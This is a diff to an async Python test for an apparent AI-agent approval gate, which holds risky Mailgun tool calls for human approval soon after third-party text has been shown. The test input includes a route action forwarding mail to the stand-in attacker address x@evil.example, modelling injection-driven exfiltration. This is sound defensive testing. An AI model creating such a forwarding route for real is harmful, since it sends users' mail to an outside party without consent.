@@ -85,9 +85,7 @@ async def test_soon_after_untrusted_text_what_could_do_harm_needs_a_yes(
     arguments = {**minimal(find(tool)), **({"action": ["forward('x@evil.example')"]} if tool == "create_route" else {})}
     assert held(await run(services, tool, arguments))
     assert mailgun.changes == []
-    assert (
-        "text that a third party wrote was shown a short while ago" in services.approvals.list(services.clock())[0].text
-    )
+    assert "third-party text was shown a short while ago" in services.approvals.list(services.clock())[0].text
 
 
 async def test_it_is_forgotten_after_a_while(services: Services, mailgun: Recorder, clock: Clock) -> None:
